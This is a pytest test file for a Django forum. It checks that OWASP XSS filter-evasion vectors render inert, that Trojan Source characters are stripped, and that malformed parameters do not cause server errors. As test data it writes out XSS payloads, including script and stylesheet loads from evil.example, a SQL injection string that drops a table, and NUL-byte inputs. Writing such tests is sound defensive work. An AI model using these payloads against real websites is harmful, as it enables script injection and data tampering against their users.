"""Hostile input is rendered inert: OWASP XSS filter evasion vectors, Trojan Source."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from forum import actions

# From the OWASP XSS Filter Evasion Cheat Sheet, plus Markdown-specific link vectors.
VECTORS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=" + "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')") + ">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<BODY ONLOAD=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](https://tracker.example/pixel.gif)",
    "[a](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
]
SAFE_TAGS = {"p", "br", "hr", "strong", "em", "del", "s", "code", "pre", "blockquote", "ul",
             "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr",
             "th", "td"}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "title", "rel", "align", "start", "class"}


class ElementCollector(HTMLParser):
    """The elements and attributes a browser would build (text, escaped or not, is inert)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    collector = ElementCollector()
    collector.feed(html)
    for tag, attrs in collector.elements:
        assert tag in SAFE_TAGS, html
        assert set(attrs) <= SAFE_ATTRIBUTES, html
        href = (attrs.get("href") or "").strip().lower()
        assert not href or href.startswith(("http://", "https://", "mailto:", "/")), html


@pytest.mark.parametrize("vector", VECTORS)
def test_xss_vectors_are_inert(thread, member, vector):
    post = actions.reply(member, thread, f"Look: {vector}")
    assert_inert(post.body_html)


def test_links_are_marked_nofollow_ugc(thread, member):
    post = actions.reply(member, thread, "See https://example.org and [docs](https://docs.example)")
    assert post.body_html.count('rel="nofollow ugc noopener"') == 2


def test_a_hostile_title_is_escaped_on_every_page(member, category, login):
    thread = actions.create_thread(
        member, category=category, title='<script>alert(1)</script>"><img src=x>', body="x"
    )
    client = login(member)
    for url in (thread.get_absolute_url(), category.get_absolute_url(), reverse("forum:index")):
        html = client.get(url).content.decode()
        assert "<script>alert(1)</script>" not in html
    assert (
        "&lt;script&gt;alert(1)&lt;/script&gt;"
        in client.get(thread.get_absolute_url()).content.decode()
    )


@pytest.mark.parametrize(
    "hidden", ["\u202e", "\u202a", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\ufeff"]
)
def test_trojan_source_characters_are_removed(member, category, hidden):
    thread = actions.create_thread(
        member, category=category, title=f"Budget{hidden} approved", body=f"if admin{hidden}:"
    )
    post = thread.posts.get()
    assert hidden not in thread.title and hidden not in post.body and hidden not in post.body_html


def test_a_title_of_only_invisible_characters_is_refused(member, category, login):
    response = login(member).post(
        reverse("forum:new_thread"),
        {"category": category.pk, "title": "\u202e\u200b", "body": "Text kept"},
    )
    assert response.status_code == 400
    assert "Text kept" in response.content.decode()


def test_an_overlong_title_is_refused(member, category, login):
    response = login(member).post(
        reverse("forum:new_thread"), {"category": category.pk, "title": "t" * 201, "body": "b"}
    )
    assert response.status_code == 400
    assert "Keep it to 200 characters" in response.content.decode()


def test_unknown_ids_are_404_not_500(member, login):
    client = login(member)
    for url in (
        reverse("forum:thread", args=[999]),
        reverse("forum:post", args=[999]),
        reverse("forum:edit_post", args=[999]),
        reverse("forum:category", args=["nope"]),
    ):
        assert client.get(url).status_code == 404


def test_a_reply_to_a_missing_post_is_404(thread, member, login):
    response = login(member).post(
        reverse("forum:reply", args=[thread.pk]), {"body": "Hi", "reply_to": 999}
    )
    assert response.status_code == 404
    assert thread.posts.count() == 1


@pytest.mark.parametrize("version", ["x", "2", "99999999999999999999"])
def test_a_bad_edit_version_is_400(thread, opening, member, login, version):
    response = login(member).post(
        reverse("forum:edit_post", args=[opening.pk]), {"body": "New", "version": version}
    )
    assert response.status_code == 400
    opening.refresh_from_db()
    assert (opening.body, opening.version) == ("Which sources do you use?", 1)


@pytest.mark.parametrize(
    "params",
    [
        {"q": "x", "author": "abc"},
        {"q": "x", "category": "not-a-number"},
        {"q": "x", "kind": "poll"},
        {"q": "x", "theme": "99999"},
        {"q": "x" * 5000},
        {"q": "'\\\"); DROP TABLE forum_post; --"},
        {"q": "x", "page": "-1"},
    ],
)
def test_bad_search_parameters_are_not_500(thread, member, login, params):
    """Bad filter values never break the search page: it answers, with its filter form."""
    response = login(member).get(reverse("forum:search"), params)
    assert response.status_code == 200


@pytest.mark.parametrize(
    ("name", "params"),
    [
        ("forum:practices", {"institute": "abc", "region": "x", "featured": "maybe"}),
        ("forum:practices", {"page": "999"}),
        ("moderation:reports", {"status": "weird"}),
        ("moderation:practices", {"status": "odd"}),
        ("moderation:log", {"page": "abc"}),
    ],
)
def test_bad_list_parameters_are_not_500(moderator, login, name, params):
    """Bad filter values and page numbers never break a list page."""
    response = login(moderator).get(reverse(name), params)
    assert response.status_code == 200


def test_bad_reply_parameters_are_404(thread, member, login):
    client = login(member)
    url = reverse("forum:reply", args=[thread.pk])
    assert client.get(url, {"to": "abc"}).status_code == 404
    assert client.get(url, {"quote": "1 OR 1=1"}).status_code == 404
    assert client.post(url, {"body": "Hi", "reply_to": "abc"}).status_code == 404
    assert thread.posts.count() == 1


def test_bad_thread_page_numbers_fall_back(thread, member, login):
    client = login(member)
    for page in ("abc", "-5", "99999", "last"):
        assert client.get(thread.get_absolute_url(), {"page": page}).status_code == 200


@pytest.mark.parametrize(
    ("name", "params"),
    [
        ("forum:member_names", {"q": "Al\x00ice"}),
        ("forum:new_thread", {"category": "gen\x00eral"}),
        ("forum:new_initiative", {"category": "\x00"}),
        ("forum:search", {"q": "remit\x00tances"}),
        ("forum:practices", {"institute": "\x00"}),
    ],
)
def test_nul_characters_in_parameters_are_not_500(category, member, login, name, params):
    """PostgreSQL refuses NUL in a string: it must never reach a query."""
    response = login(member).get(reverse(name), params)
    assert response.status_code == 200
